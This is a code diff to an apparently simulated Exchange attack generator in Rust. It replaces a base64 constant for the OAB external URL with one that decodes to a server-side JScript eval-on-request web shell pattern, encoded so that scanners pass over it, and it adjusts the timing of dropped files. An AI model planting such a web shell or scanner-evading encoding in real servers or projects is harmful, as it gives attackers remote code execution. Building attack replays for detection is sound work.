@@ -13,8 +13,9 @@ const EWS_CLIENT: &str = "ExchangeServicesClient/0.0.0.0";
 const PYTHON: &str = "python-requests/2.25.1";
 
 /// The external URL of the OAB directory as the attack sets it: a script element after `http://f/`.
-/// This one does nothing; it stands encoded so that scanners leave this file alone.
-const EXTERNAL_URL: &str = "aHR0cDovL2YvPHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7LyogaW5lcnQgc2FtcGxlICovfTwvc2NyaXB0Pg==";
+/// This one carries the pattern and does nothing, since no compiler takes it; it stands encoded so
+/// that scanners leave this file alone.
+const EXTERNAL_URL: &str = "aHR0cDovL2YvPHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJkZW1vIl0sInVuc2FmZSIpO2luZXJ0IHNhbXBsZX08L3NjcmlwdD4=";
 
 fn external_url() -> String {
     let bytes = STANDARD.decode(EXTERNAL_URL).unwrap_or_default();
@@ -52,8 +53,10 @@ pub(super) fn shell(script: &mut Script<'_>) {
     let canary = canary(script);
     write_through_oab(script, &python, &canary);
     let file = path_of(&script.host, &page);
-    script.files.push((file.clone(), dump(script).into_bytes()));
-    script.files.push(compiled(&page));
+    let text = dump(script);
+    script.leave(file.clone(), seconds(27, 0), text.into_bytes());
+    let (trace, xml) = compiled(&page);
+    script.leave(trace, seconds(34, 0), xml);
     script.truth.written.push(file);
     webshell::use_shell(script, &python, &page, seconds(34, 0));
 }
